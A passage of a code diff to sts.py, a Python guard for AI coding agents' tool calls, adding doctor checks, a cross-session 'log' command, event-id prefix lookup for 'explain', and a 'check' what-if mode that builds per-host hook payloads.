+    if names and not bad:
+        check("OK", "sts", "%d session file%s readable" % (len(names),
+                                                           "" if len(names) == 1 else "s"))
+
+
+def _doctor_bytecode(check: Callable[..., None]) -> None:
+    """Without a bytecode cache every hook compiles all of sts.py (over a
+    second a call); the installed command then keeps it under the state folder."""
+    folder = os.path.dirname(_sts_path())
+    if _dir_writable(folder):
+        check("OK", "sts", "Python can cache sts.py's bytecode in %s"
+              % os.path.join(folder, "__pycache__"))
+        return
+    prefix = os.path.join(data_dir(), "pycache")
+    check("OK", "sts", "%s cannot hold Python's bytecode cache, so the installed hook "
+          "commands keep it in %s (-X pycache_prefix=)" % (folder, prefix))
+    stale = []
+    for host in _HOOK_EVENTS:
+        cfg = os.path.join(_base_dir(host, "user"), _HOSTS[host]["config"])
+        stale += [cfg for command, _ in _sts_hook_commands(cfg)
+                  if "pycache_prefix=" not in command and cfg not in stale]
+    for cfg in stale:
+        check("WARN", "sts", "%s runs sts without -X pycache_prefix=: each hook compiles "
+              "sts.py anew (over a second per tool call)" % cfg,
+              "python3 %s install <host> (again)" % _sh_quote(_sts_path()))
+
+
 def cmd_doctor(args: List[str]) -> int:
-    """python3 sts.py doctor: one OK/WARN/FAIL line per check, with the fix."""
+    """python3 sts.py doctor [HOST...] [--json]: one OK/WARN/FAIL/OFF line per
+    check, with the fix.  OFF: a host sts is not wired into (never installed,
+    or uninstalled), which is no failure.  Exit 1 when a check failed."""
     import time
-    out = sys.stdout
-    worst = {"OK": 0, "WARN": 0, "FAIL": 0}
+    as_json = "--json" in args
+    args = [a for a in args if a != "--json"]
+    found: List[Dict[str, Any]] = []
 
     def check(status: str, host: str, text: str, fix: Optional[str] = None) -> None:
-        worst[status] += 1
-        out.write("%-4s %-8s %s%s\n" % (status, host, text, ("\n     fix: " + fix) if fix else ""))
+        found.append({"status": status, "host": host, "text": text, "fix": fix})
 
     installed = _load_installed()
     by_host: Dict[str, List[dict]] = {}
@@ -26290,6 +27673,8 @@ def cmd_doctor(args: List[str]) -> int:
     except OSError as exc:
         check("FAIL", "sts", "state folder %s is not writable: %s" % (root, exc.strerror or exc),
               "make it writable, or set STS_HOME to a writable folder")
+    _doctor_bytecode(check)
+    _doctor_sessions(root, check)
     stored = read_user_default(root)
     try:
         good = stored is None or parse_default(stored) is not None or stored.strip() != ""
@@ -26302,14 +27687,35 @@ def cmd_doctor(args: List[str]) -> int:
         check("WARN", "sts", "no host found (looked for %s)" % ", ".join(_HOSTS),
               "python3 sts.py install <host>")
     for host in hosts:
+        fix = "python3 %s install %s" % (_sh_quote(_sts_path()), host)
+        if host in _HOOK_EVENTS:
+            _doctor_host_names(host, os.path.join(_base_dir(host, "user"),
+                                                  _HOSTS[host]["config"]), check, fix)
+        elif host == "copilot":
+            _doctor_host_names(host, _copilot_hook_path(_base_dir(host, "user")), check, fix)
+        if not wanted and host not in by_host and not _wired_at_all(host):
+            check("OFF", host, "not wired: sts is not installed for %s (never, or "
+                  "uninstalled), so its calls are not guarded" % host, "to guard it: " + fix)
+            continue
         _doctor_host(host, by_host.get(host, []), check)
         try:
             age = time.time() - os.stat(os.path.join(root, "hosts", host)).st_mtime
             check("OK", host, "last event %s ago" % _age(max(age, 0)))
         except OSError:
             check("WARN", host, "no event received yet", "start %s once; every event refreshes this" % host)
-    out.write("%d OK, %d WARN, %d FAIL\n" % (worst["OK"], worst["WARN"], worst["FAIL"]))
-    return 1 if worst["FAIL"] else 0
+    counts = {word: sum(1 for f in found if f["status"] == word)
+              for word in ("OK", "WARN", "FAIL", "OFF")}
+    if as_json:
+        sys.stdout.write(json.dumps({"schemaVersion": 1, "checks": found, "counts": counts},
+                                    indent=2, ensure_ascii=False) + "\n")
+    else:
+        for f in found:
+            sys.stdout.write("%-4s %-8s %s%s\n" % (f["status"], f["host"], f["text"],
+                                                   ("\n     fix: " + f["fix"]) if f["fix"] else ""))
+        sys.stdout.write("%d OK, %d WARN, %d FAIL%s\n" % (
+            counts["OK"], counts["WARN"], counts["FAIL"],
+            ", %d not wired" % counts["OFF"] if counts["OFF"] else ""))
+    return 1 if counts["FAIL"] else 0
 
 
 ###############################################################################
@@ -26661,6 +28067,34 @@ def _reserved_and_reasons(state: dict) -> Tuple[int, List[str]]:
     return reserved, reasons
 
 
+# contract["source"] -> who set the contract, in words.
+_SOURCE_WORDS = {"default": "nobody yet (the start of every session)",
+                 "directive": "a $stop-that-shit directive in a prompt",
+                 "natural-explicit": "a plain-words correction in a prompt",
+                 "explicit-stop": "\"stop\" in a prompt",
+                 "recovery": "read-only recovery (the session file is damaged)",
+                 "host": "the host (its agent may edit files)",
+                 "user-default": "your default contract (python3 sts.py default)",
+                 "repo-default": "the repository's default contract"}
+
+
+def _protection_line(contract: dict, storage_error: Optional[dict]) -> str:
+    """Whether calls are stopped now, and if not why and what arms the guard."""
+    if storage_error:
+        return "Protection: read-only recovery: reads pass, anything else is stopped."
+    state = control_state(contract)
+    if state == "ARMED":
+        return "Protection: on: calls outside this contract are stopped."
+    if state == "OFF":
+        return ("Protection: off for this session; a prompt with `$stop-that-shit review` "
+                "(or another mode) turns it on.")
+    if contract.get("mode") == "unconfirmed":
+        return ("Protection: none yet: no contract is set, so calls are only watched. Set "
+                "one in a prompt: `$stop-that-shit review -- <task>`.")
+    return ("Protection: watch only: calls outside the contract are reported, not stopped; "
+            "`$stop-that-shit guard` stops them.")
+
+
 class _StatusView:
     """What both status answers are made of, read once."""
 
@@ -26682,17 +28116,23 @@ class _StatusView:
         self.effect = _host_effect(self.events[-1], self.notes) if self.events else "unobserved"
 
     def spec_lines(self) -> List[str]:
-        """The status lines, the same in a prompt answer and in the terminal."""
+        """The status lines, the same in a prompt answer and in the terminal:
+        one fact a line, so another line can be added where it belongs."""
         state = self.loaded.state
         contract = state["contract"]
-        fields = contract_fields(contract, self.reserved, bool(self.reasons))
         lines = ["Stop That Shit status",
                  "State: %s / %s" % (control_state(contract), contract.get("mode")),
-                 fields,
-                 "Authority source: %s" % contract.get("source")]
+                 "Contract: %s" % contract_words(contract),
+                 "Set by: %s" % _SOURCE_WORDS.get(contract.get("source"),
+                                                  str(contract.get("source")))]
         if isinstance(contract.get("origin"), str):
             lines.append("%s: %s" % ("Contract from" if contract.get("source") in DEFAULT_SOURCES
                                      else "Started from", contract["origin"]))
+        lines.append(_protection_line(contract, self.loaded.storage_error))
+        budget = contract.get("agentBudget")
+        if self.reserved or budget_text(budget) != "unlimited":
+            lines.append("Subagents: %d running or unconfirmed, %s allowed at once"
+                         % (self.reserved, budget_text(budget).replace("unlimited", "any number")))
         error = self.loaded.storage_error
         if error:
             lines.append("%s: %s" % (error.get("code"), error.get("message")))
@@ -26702,7 +28142,8 @@ class _StatusView:
         if self.reasons:
             lines.append("Unresolved activity: %s. %s"
                          % (", ".join(self.reasons), _UNRESOLVED_ADVICE))
-        lines += ["Host effect: %s" % self.effect, "Full counts: see runtime."]
+        if self.effect != "unobserved":
+            lines.append("Last call: %s" % _EFFECT_WORDS.get(self.effect, self.effect))
         return lines
 
     def terminal_lines(self) -> List[str]:
@@ -26718,19 +28159,21 @@ class _StatusView:
         checked, allowed, denied, notes = tally.row
         lines.append("Checked actions: %d (allowed %d, denied %d, watch notes %d)"
                      % (checked, allowed, denied, notes))
-        lines.append("")
-        lines += _count_table("By family", [
-            ("%s %s" % (f, family_word(f).lower()), tally.families.get(f, [0, 0, 0, 0]))
-            for f in _FAMILY_ORDER + tuple(sorted(set(tally.families) - set(_FAMILY_ORDER)
-                                                  - {"-"}))
-        ] + ([("- none (allowed)", tally.families["-"])] if "-" in tally.families else []))
-        lines.append("")
-        reasons = sorted(tally.reasons.items(), key=lambda kv: (-kv[1][1], kv[0]))
-        lines += _count_table("By reason", [("%s %s" % (r[0], code), r[1:])
-                                            for code, r in reasons])
-        lines.append("")
+        families = [("%s %s" % (f, family_word(f).lower()), tally.families[f])
+                    for f in _FAMILY_ORDER + tuple(sorted(set(tally.families)
+                                                          - set(_FAMILY_ORDER) - {"-"}))
+                    if f in tally.families and tally.families[f][0]]
+        if denied or notes:   # a table of allowed calls only says what the line above says
+            lines.append("")
+            lines += _count_table("By family", families + (
+                [("- none (allowed)", tally.families["-"])] if "-" in tally.families else []))
+            lines.append("")
+            reasons = sorted(tally.reasons.items(), key=lambda kv: (-kv[1][1], kv[0]))
+            lines += _count_table("By reason", [("%s %s" % (r[0], code), r[1:])
+                                                for code, r in reasons if r[1]])
         top = tally.top_denied()
         if top:
+            lines.append("")
             lines.append("Top denied reasons (of %d denials):" % denied)
             # A code too long for the line is shortened, never the count.
             pad = min(max(len(code) for code, _ in top), _INSPECT_WIDTH - 12)
@@ -26738,13 +28181,12 @@ class _StatusView:
                    for code, count in top]
             lines += [_fit("  %d. %-*s %6d" % (n, pad, _clean(code), count))
                       for n, (code, count) in enumerate(top, 1)]
-        else:
-            lines.append("Top denied reasons: none")
         lines.append("")
         lines.append("Last %d events (oldest first, UTC; ask = denied until the user approves):"
                      % min(_STATUS_RECENT, len(self.events)))
         for event in self.events[-_STATUS_RECENT:]:
             lines += _event_lines(event, self.notes)
+        lines.append("Why: python3 sts.py explain <event>; every session: python3 sts.py log")
         return lines
 
     def json(self) -> Dict[str, Any]:
@@ -26788,26 +28230,23 @@ def _count_table(title: str, rows: List[Tuple[str, List[int]]]) -> List[str]:
 
 
 def _event_lines(event: dict, notes: "Annotations") -> List[str]:
-    """Two lines of metadata for one event: never a path or a command."""
-    action, decision = event["action"], event["decision"]
+    """Two lines for one event: when, verdict, reason and the event id, then
+    what it was about (the culprit, command or path; the tool for a call
+    whose text the audit does not keep)."""
+    decision = event["decision"]
     outcome = decision["policyOutcome"]
     word = _OUTCOME_WORD.get(outcome, outcome)
     family = decision.get("family")
     reason = ("%s/%s" % (family, decision["reasonCode"]) if isinstance(family, str) and family
               else decision["reasonCode"])
-    head = "  %s %s  %-5s  " % (event["occurredAt"][:10], event["occurredAt"][11:19], word)
-    most = _INSPECT_WIDTH - len(head) - 2 - 16  # leave the tool at least 16 columns
-    if len(reason) > most:
-        reason = reason[:most - 3] + "..."
-    tail = "  " + reason
-    tool = "%s (%s)" % (action["toolName"], action["mutability"])
-    room = _INSPECT_WIDTH - len(head) - len(tail)
-    if len(tool) > room:
-        # A long tool name gives way first: the reason is what the user came for.
-        tool = tool[:max(room - 3, 0)] + "..." if room > 3 else ""
-    first = _fit(_clean(head + tool + tail))
-    second = _fit("    %s  host effect: %s" % (event["eventId"], _host_effect(event, notes)))
-    return [first, second]
+    first = _fit(_clean("  %s %s  %-5s  %s  %s" % (
+        event["occurredAt"][:10], event["occurredAt"][11:19], word, event["eventId"][:12],
+        reason)))
+    effect = _host_effect(event, notes)
+    what = " ".join(_target(event).split())
+    if effect != "unobserved":
+        what += " (%s)" % _EFFECT_WORDS.get(effect, effect)
+    return [first, _fit(_clean("    " + what))]
 
 
 # ---- runtime ----------------------------------------------------------------
@@ -26979,23 +28418,6 @@ def _runtime_end(store: Store, key: Optional[str], summary: Dict[str, Any],
 # ---- explain and label ------------------------------------------------------
 
 
-def _explain_text(event: dict, notes: "Annotations") -> str:
-    action, decision = event["action"], event["decision"]
-    mode = (event.get("contract") or {}).get("mode", "unknown")
-    lines = ["Stop That Shit event %s" % event["eventId"],
-             "State: %s / %s" % (event["controlState"].upper(), mode),
-             "Action: %s (%s); paths=%s" % (action["toolName"], action["mutability"],
-                                            action.get("pathCount", 0))]
-    sentence = ANALYSIS_REASONS.get(action.get("analysisReason") or "")
-    if sentence:
-        lines.append("Analysis: %s" % (sentence[:1].lower() + sentence[1:]))
-    lines += ["Decision: %s / %s" % (decision["policyOutcome"], decision["reasonCode"]),
-              "Response: %s" % decision["responseOutcome"],
-              "Host effect: %s" % _host_effect(event, notes),
-              "Label: %s" % notes.labels.get(event["eventId"], "unlabeled")]
-    return "\n".join(lines)
-
-
 def _removed_sentence(removed: Dict[str, Any]) -> str:
     newest = removed.get("newestRemoved")
     return ("Older audit removed: %d file%s (%.1f MB) of idle sessions%s, to stay under "
@@ -27032,6 +28454,353 @@ def record_label(store: Store, event_id: str, label: str) -> dict:
     return record
 
 
+# ---- log: the last decisions across sessions ---------------------------------
+#
+# The newest N decisions of every session together, read from the ends of
+# the logs backwards.  Sessions are visited newest file first, and a session
+# whose newest file was last written before the N-th newest decision found so
+# far cannot hold a newer one (a line's time is taken before it is written),
+# so `log` reads a few files' tails whatever the number of sessions.
+
+_LOG_DEFAULT = 20
+_LOG_WIDTH = 120
+_LOG_CHUNK = 64 * 1024
+# The host's family name (as the audit keeps it) -> the name its hook uses.
+_HOST_SHORT = {"claude-code": "claude", "hermes-agent": "hermes", "gemini-cli": "gemini",
+               "copilot-cli": "copilot", "qwen-code": "qwen"}
+
+
+def _lines_backwards(path: str):
+    """The non-empty lines of a file, last first, read in chunks from the end."""
+    with open(path, "rb") as fh:
+        end = fh.seek(0, 2)
+        rest = b""
+        while end > 0:
+            start = max(0, end - _LOG_CHUNK)
+            fh.seek(start)
+            data = fh.read(end - start) + rest
+            end = start
+            lines = data.split(b"\n")
+            rest = lines.pop(0) if start > 0 else b""
+            for raw in reversed(lines):
+                if raw.strip():
+                    yield raw
+        if rest.strip():
+            yield rest
+
+
+def _iso_of(seconds: float) -> str:
+    import time
+    whole = int(seconds)
+    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + ".%03dZ" % (
+        int((seconds - whole) * 1000))
+
+
+def _verdict_word(event: dict) -> str:
+    outcome = event["decision"]["policyOutcome"]
+    return _OUTCOME_WORD.get(outcome, outcome)
+
+
+def recent_decisions(store: Store, count: int, key: Optional[str] = None,
+                     verdict: Optional[str] = None) -> List[dict]:
+    """The newest `count` audited decisions (of session `key`, of verdict
+    `verdict`: allow, deny, ask or note), newest first."""
+    import heapq
+    sessions = []
+    for k, names in audit_files(store, key).items():
+        newest = 0.0
+        for name in names:
+            try:
+                newest = max(newest, os.stat(store.path("runtime", name)).st_mtime)
+            except OSError:
+                pass
+        sessions.append((newest, k, names))
+    sessions.sort(reverse=True)
+    best: List[Tuple[str, str, dict]] = []   # a heap of (occurredAt, eventId, event)
+    for newest, k, names in sessions:
+        if len(best) >= count and _iso_of(newest + 0.001) < best[0][0]:
+            break
+        for name in reversed(names):
+            try:
+                for raw in _lines_backwards(store.path("runtime", name)):
+                    event = _line_record(raw, runtime_event_ok)[0]
+                    if event is None:
+                        continue
+                    if len(best) >= count and event["occurredAt"] < best[0][0]:
+                        break   # older than all kept: so is the rest of this file (bar skew)
+                    if verdict is not None and _verdict_word(event) != verdict:
+                        continue
+                    item = (event["occurredAt"], event["eventId"], event)
+                    if len(best) < count:
+                        heapq.heappush(best, item)
+                    elif item[:2] > best[0][:2]:
+                        heapq.heapreplace(best, item)
+            except OSError:
+                continue
+    return [item[2] for item in sorted(best, key=lambda i: i[:2], reverse=True)]
+
+
+def _host_name(event: dict) -> str:
+    family = event.get("host")
+    return _HOST_SHORT.get(family, family) if isinstance(family, str) else "-"
+
+
+def _shown(event: dict) -> dict:
+    shown = event.get("shown")
+    return shown if isinstance(shown, dict) else {}
+
+
+def _target(event: dict) -> str:
+    """What a call was about, for one line: the culprit's words, else the
+    command or first path, else the tool."""
+    shown = _shown(event)
+    culprit = shown.get("culprit")
+    if isinstance(culprit, str) and culprit.startswith("Culprit: "):
+        return culprit.split("\n")[0][len("Culprit: "):]
+    command = shown.get("command")
+    if isinstance(command, str):
+        return command
+    paths = shown.get("paths")
+    if isinstance(paths, list) and paths:
+        return "%s %s" % (event["action"]["toolName"], paths[0])
+    return "%s (%s)" % (event["action"]["toolName"], event["action"]["mutability"])
+
+
+def _log_line(event: dict) -> str:
+    """time, event, host, session, verdict, reason, what: the date stands
+    above (a line per day), and only the culprit may take the line past 80
+    columns, up to _LOG_WIDTH."""
+    head = "%s %s %-7s %s %-5s %s  " % (
+        event["occurredAt"][11:19], event["eventId"][4:12], _host_name(event)[:7],
+        event.get("sessionKey", "")[:8], _verdict_word(event), event["decision"]["reasonCode"])
+    line = _clean(head + " ".join(_target(event).split()))
+    return line if len(line) <= _LOG_WIDTH else line[:_LOG_WIDTH - 3] + "..."
+
+
+_LOG_USAGE = ("usage: sts.py log [N] [--session ID] [--verdict allow|deny|ask|note] [--json]")
+
+
+def cmd_log(args: List[str], store: Store) -> int:
+    """The last N decisions across sessions, newest first: exit 0, 1 when an
+    asked-for session has no audit, 2 on a usage error."""
+    count, session, verdict, as_json = _LOG_DEFAULT, None, None, False
+    i = 0
+    while i < len(args):
+        arg = args[i]
+        name, eq, value = arg.partition("=")
+        if arg == "--json":
+            as_json = True
+        elif name in ("--session", "--verdict", "-n"):
+            if not eq:
+                if i + 1 >= len(args):
+                    sys.stderr.write(_LOG_USAGE + "\n")
+                    return 2
+                i += 1
+                value = args[i]
+            if name == "--session":
+                session = value
+            elif name == "--verdict":
+                verdict = value
+            else:
+                args = args[:i + 1] + [value] + args[i + 1:]   # -n N: a count
+                i += 1
+                continue
+        elif arg.isdigit() and int(arg) > 0:
+            count = int(arg)
+        else:
+            sys.stderr.write(_LOG_USAGE + "\n")
+            return 2
+        i += 1
+    if verdict not in (None, "allow", "deny", "ask", "note") or session == "":
+        sys.stderr.write(_LOG_USAGE + "\n")
+        return 2
+    try:
+        key = _resolve_session(store, session) if session is not None else None
+        events = recent_decisions(store, count, key, verdict)
+    except InspectionError as exc:
+        sys.stderr.write("%s\n" % exc)
+        return 1
+    if as_json:
+        _inspect_json({"schemaVersion": 1, "events": events}, one_per_line=("events",))
+        return 0
+    if not events:
+        sys.stdout.write("No decisions%s in %s yet.\n" % (
+            "" if verdict is None else " with verdict " + verdict, _clean(store.root)))
+        return 0
+    out = ["Last %d decision%s, newest first (times in UTC):"
+           % (len(events), "" if len(events) == 1 else "s"),
+           "  time     event    host    session  verdict reason  culprit"]
+    day = None
+    for event in events:
+        if event["occurredAt"][:10] != day:
+            day = event["occurredAt"][:10]
+            out.append("%s:" % _clean(day))
+        out.append("  " + _log_line(event))
+    out.append("Why one was decided: python3 sts.py explain <event>, e.g. explain %s."
+               % events[0]["eventId"][4:12])
+    sys.stdout.write("\n".join(out) + "\n")
+    return 0
+
+
+# ---- explain: one decision in words ------------------------------------------
+
+# hostEffect -> what a person reads.
+_EFFECT_WORDS = {"observed_blocked": "the host reported it blocked the call",
+                 "observed_ran": "the host reported it ran the call",
+                 "unobserved": "not reported (the host does not say what it did after a hook)"}
+
+
+def _effect_words(event: dict, notes: "Annotations") -> str:
+    effect = _host_effect(event, notes)
+    return _EFFECT_WORDS.get(effect, effect)
+
+
+def contract_words(contract: dict) -> str:
+    """A contract as the directive fields that set it: `review guard files=src/** ...`."""
+    mode, level = contract.get("mode"), contract.get("level")
+    if level == "off":
+        return "off (the guard does nothing)"
+    if mode == "unconfirmed":
+        return "none yet (a new session only watches until a directive sets one)"
+    paths = contract.get("allowedPaths")
+    words = [str(mode), str(level)]
+    if isinstance(paths, list):
+        words.append("files=%s" % ("|".join(paths) or "(none: no path is writable)"))
+    words += ["deps=%s" % contract.get("dependencyPolicy"), "hash=%s" % contract.get("hashPolicy")]
+    if contract.get("undoPolicy"):   # (audit lines of older releases do not keep it)
+        words.append("undo=%s" % contract["undoPolicy"])
+    budget = contract.get("agentBudget")
+    if budget_text(budget) != "unlimited":
+        words.append("agents=%s" % budget)
+    return _clean(" ".join(words))
+
+
+def _event_contract(event: dict) -> str:
+    """The contract in force when `event` was decided, in directive words."""
+    saved = event.get("contract") or {}
+    shown = _shown(event)
+    files = shown.get("files")
+    contract = dict(saved, allowedPaths=files if isinstance(files, list) else None)
+    text = contract_words(contract)
+    count = saved.get("allowedPathCount")
+    if _is_int(count) and count > 0 and not isinstance(files, list):
+        text += " files=(%d pattern%s, not kept)" % (count, "" if count == 1 else "s")
+    return text
+
+
+def find_events_by_prefix(store: Store, prefix: str) -> List[dict]:
+    """Every event whose id starts with `prefix` (`evt_` optional, at least
+    four hex digits), each once; searched as bytes like find_event."""
+    prefix = prefix.lower().rstrip(".…")
+    if not prefix.startswith("evt_"):
+        prefix = "evt_" + prefix
+    if len(prefix) < 8 or not event_id_ok(prefix):
+        raise InspectionError("sts: %r is no event id (evt_ and at least four hex digits)"
+                              % prefix)
+    needle = prefix.encode("ascii")
+    found: Dict[str, dict] = {}
+    for name in (name for names in audit_files(store).values() for name in names):
+        try:
+            with open(store.path("runtime", name), "rb") as fh:
+                data = fh.read()
+        except OSError:
+            continue
+        at = data.find(needle)
+        while at >= 0:
+            start = data.rfind(b"\n", 0, at) + 1
+            end = data.find(b"\n", at)
+            end = len(data) if end < 0 else end
+            record = _line_record(data[start:end], runtime_event_ok)[0]
+            if record is not None and record["eventId"].startswith(prefix):
+                found.setdefault(record["eventId"], record)
+            at = data.find(needle, end)
+    return list(found.values())
+
+
+def _event_by_prefix(store: Store, prefix: str) -> dict:
+    events = find_events_by_prefix(store, prefix)
+    if len(events) > 1:
+        ids = sorted(e["eventId"] for e in events)
+        raise InspectionError("sts: %d events start with %s: %s%s; give more of the id"
+                              % (len(ids), prefix, ", ".join(ids[:4]),
+                                 ", ..." if len(ids) > 4 else ""))
+    if not events:
+        raise InspectionError(_not_found(store, prefix))
+    return events[0]
+
+
+def _explain_text(event: dict, notes: "Annotations") -> str:
+    action, decision = event["action"], event["decision"]
+    shown = _shown(event)
+    word = {"allow": "allowed", "deny": "denied", "ask": "denied until the user approves",
+            "note": "allowed, with a note to the agent"}
+    verdict = _verdict_word(event)
+    code = decision["reasonCode"]
+    lines = ["Stop That Shit event %s" % event["eventId"],
+             "When: %s UTC" % event["occurredAt"][:19].replace("T", " "),
+             "Host: %s, session %s%s" % (_host_name(event), event.get("sessionKey", "-"),
+                                         " (host id %s)" % shown["sessionId"]
+                                         if isinstance(shown.get("sessionId"), str) else ""),
+             "Tool: %s (%s)" % (action["toolName"], action["mutability"])]
+    if isinstance(shown.get("command"), str):
+        cut = shown.get("commandCut")
+        lines.append("Command: %s%s" % (shown["command"],
+                                        " ... (%s characters in all)" % cut if cut else ""))
+    if isinstance(shown.get("paths"), list) and shown["paths"]:
+        lines.append("Paths: %s" % ", ".join(str(p) for p in shown["paths"]))
+    elif action.get("pathCount"):
+        lines.append("Paths: %d (not kept)" % action["pathCount"])
+    if isinstance(shown.get("cwd"), str):
+        lines.append("Folder: %s" % shown["cwd"])
+    lines.append("Contract then: %s (%s)" % (_event_contract(event), event["controlState"]))
+    lines.append("Verdict: %s, %s" % (word.get(verdict, verdict), code))
+    sentence = ANALYSIS_REASONS.get(action.get("analysisReason") or "")
+    if sentence:
+        lines.append("Analysis: %s" % (sentence[:1].lower() + sentence[1:]))
+    culprit = shown.get("culprit")
+    if isinstance(culprit, str) and culprit:
+        lines += culprit.split("\n")
+    row = _DECISION_ROWS.get(code)
+    if verdict != "allow" and row is not None and row.next:
+        lines.append("Next: %s" % row.next)
+    if isinstance(shown.get("allow"), str):
+        lines.append("Allow: the user can send `%s` as a prompt to allow this." % shown["allow"])
+    if not shown:
+        lines.append("Kept: metadata only (%s); the audit keeps the command, paths and "
+                     "culprit of denied and noted calls." % (
+                         "an allowed call" if verdict == "allow" else "written by an older sts"))
+    lines += ["What the host did: %s" % _effect_words(event, notes),
+              "Label: %s" % notes.labels.get(event["eventId"], "unlabeled")]
+    return "\n".join(lines)
+
+
+def _resolve_session(store: Store, given: str) -> str:
+    """The session key of `given`: a key as `runtime all` lists it (or a
+    unique start of one), or the host's own session id.  InspectionError
+    when no such session has state or audit."""
+    keys = set(audit_files(store))
+    try:
+        keys.update(n[:-5] for n in os.listdir(store.path("sessions"))
+                    if n.endswith(".json") and _key_ok(n[:-5]))
+    except OSError:
+        pass
+    lowered = given.lower()
+    if lowered in keys:
+        return lowered
+    hashed = session_key(given)
+    if hashed in keys:
+        return hashed
+    starts = sorted(k for k in keys if len(lowered) >= 4 and k.startswith(lowered))
+    if len(starts) == 1:
+        return starts[0]
+    if len(starts) > 1:
+        raise InspectionError("sts: %d sessions start with %s: %s; give more of it"
+                              % (len(starts), given, ", ".join(starts[:4])))
+    raise InspectionError("sts: no session %s in %s (see `python3 sts.py runtime all` for "
+                          "the session keys; a host's own session id works too)"
+                          % (_clean(given), _clean(store.root)))
+
+
 # ---- prompt answers ---------------------------------------------------------
 
 
@@ -27051,9 +28820,10 @@ def inspection_response(command: Tuple[str, ...], store: Store, key: Optional[st
                            with_rows=False)[0]
         return _runtime_text(summary)
     if name == "explain" and len(command) > 1:
-        event = find_event(store, command[1])
-        if event is None:
-            return _not_found(store, command[1])
+        try:
+            event = _event_by_prefix(store, command[1])
+        except InspectionError as exc:
+            return str(exc)
         return _explain_text(event, read_annotations(store))
     if name == "label" and len(command) > 2:
         try:
@@ -27181,7 +28951,7 @@ def cmd_inspect(args: List[str], store: Store) -> int:
         return 2
     command, positional, session, all_logs, as_json = parsed
     try:
-        key = session_key(session) if session is not None else None
+        key = _resolve_session(store, session) if session is not None else None
         if command in ("status", "runtime") and key is None and not all_logs:
             key = _latest_session_key(store)
             if key is None:
@@ -27224,9 +28994,7 @@ def cmd_inspect(args: List[str], store: Store) -> int:
             sys.stdout.write("\n".join(lines) + "\n")
             return 0
         if command == "explain":
-            event = find_event(store, positional[0])
-            if event is None:
-                raise InspectionError(_not_found(store, positional[0]))
+            event = _event_by_prefix(store, positional[0])
             notes = read_annotations(store)
             if as_json:
                 _inspect_json({"schemaVersion": 1, "event": event,
@@ -27254,7 +29022,8 @@ def cmd_inspect(args: List[str], store: Store) -> int:
 # Cases
 #
 # Owns `python3 sts.py cases [DIR]`: replay each Bad/Good case of cases/
-# through the real adapter and compare the decision with the expected one.
+# through the real adapter and compare the decision with the expected one;
+# and `check`, one what-if call through a real adapter and the engine.
 ###############################################################################
 
 # A case file is one JSON object:
@@ -27637,15 +29406,236 @@ def cmd_cases(args: List[str]) -> int:
     return 0 if failed == 0 else 1
 
 
+# ---- check: what a hook would answer, without a session ---------------------
+#
+# `check` sends one tool call through the host's real adapter and the real
+# engine, against a throwaway data dir holding only the contract asked for,
+# so its answer is the hook's own.  The throwaway store writes no audit
+# (a what-if is no decision) and self-protection still guards the real data
+# dir and the files install wrote.
+
+_CHECK_SESSION = "sts-check"
+_CHECK_USAGE = ("usage: sts.py check [--host H] [--contract \"review files=src/**\"] [--cwd DIR] "
+                "[--json] (-- 'command' | --tool NAME --path P [--content TEXT] "
+                "| --tool NAME --input JSON | < host-event.json)")
+# host -> (shell tool, file write tool, path key, content key) in that host's own words.
+_CHECK_TOOLS: Dict[str, Tuple[str, str, str, str]] = {
+    "codex": ("Bash", "apply_patch", "", ""),
+    "claude": ("Bash", "Write", "file_path", "content"),
+    "qwen": ("run_shell_command", "write_file", "file_path", "content"),
+    "gemini": ("run_shell_command", "write_file", "file_path", "content"),
+    "hermes": ("terminal", "write_file", "path", "content"),
+    "opencode": ("bash", "write", "filePath", "content"),
+    "pi": ("bash", "write", "path", "content"),
+    "omp": ("bash", "write", "path", "content"),
+    "copilot": ("bash", "create", "path", "file_text"),
+}
+
+
+class _WhatIfStore(Store):
+    """A throwaway data dir that protects the real one and writes no audit."""
+
+    def __init__(self, root: str, real: Store) -> None:
+        super().__init__(root)
+        self.real_root = real.root
+
+    def append_audit(self, key: str, record: dict) -> bool:
+        return False
+
+
+def _check_payload(host: str, tool: str, tool_input: Any, cwd: str) -> dict:
+    """One tool call in `host`'s own hook payload (what its hook reads on stdin)."""
+    s, call = _CHECK_SESSION, "call_check_1"
+    if host in ("claude", "codex", "qwen"):
+        payload = {"session_id": s, "cwd": cwd, "hook_event_name": "PreToolUse",
+                   "tool_name": tool, "tool_input": tool_input, "tool_use_id": call}
+        if host == "codex":
+            payload["turn_id"] = "turn-check"
+        if host == "qwen":
+            payload["tool_call_id"] = call
+        return payload
+    if host == "gemini":
+        return {"session_id": s, "cwd": cwd, "hook_event_name": "BeforeTool",
+                "timestamp": utc_now_iso(), "tool_name": tool, "tool_input": tool_input}
+    if host == "copilot":
+        return {"hook_event_name": "preToolUse", "sessionId": s, "timestamp": 0, "cwd": cwd,
+                "toolName": tool, "toolArgs": tool_input}
+    if host == "hermes":
+        return {"hook_event_name": "pre_tool_call", "tool_name": tool, "tool_input": tool_input,
+                "session_id": s, "cwd": cwd, "extra": {"tool_call_id": call}}
+    if host == "opencode":
+        body = {"input": {"tool": tool, "sessionID": s, "callID": call},
+                "output": {"args": tool_input}, "ctx": {"parentSessionId": None}}
+        return {"v": 1, "hook": "tool.execute.before", "sessionId": s, "cwd": cwd, "payload": body}
+    ctx = {"idle": False, "hasUI": False}
+    if host == "omp":
+        ctx["sessionFile"] = None
+    body = {"event": {"type": "tool_call", "toolName": tool, "toolCallId": call,
+                      "input": tool_input}, "ctx": ctx}
+    return {"v": 1, "hook": "tool_call", "sessionId": s, "cwd": cwd, "payload": body}
+
+
+def _check_tool_call(host: str, command: Optional[str], tool: Optional[str],
+                     paths: List[str], content: str, given: Any, cwd: str) -> dict:
+    shell, writer, path_key, content_key = _CHECK_TOOLS[host]
+    if command is not None:
+        return _check_payload(host, tool or shell, {"command": command}, cwd)
+    tool = tool or writer
+    if given is not None:
+        return _check_payload(host, tool, given, cwd)
+    where = [p if os.path.isabs(p) else os.path.join(cwd, p) for p in paths]
+    if tool == "apply_patch":   # Codex writes files only as a patch
+        lines = ["*** Begin Patch"]
+        for path in where:
+            lines += ["*** Add File: %s" % path] + ["+" + ln for ln in content.split("\n")]
+        return _check_payload(host, tool, {"command": "\n".join(lines + ["*** End Patch", ""])},
+                              cwd)
+    tool_input = {path_key: where[0], content_key: content}
+    return _check_payload(host, tool, tool_input, cwd)
+
+
+def _check_parse(args: List[str]) -> Optional[Dict[str, Any]]:
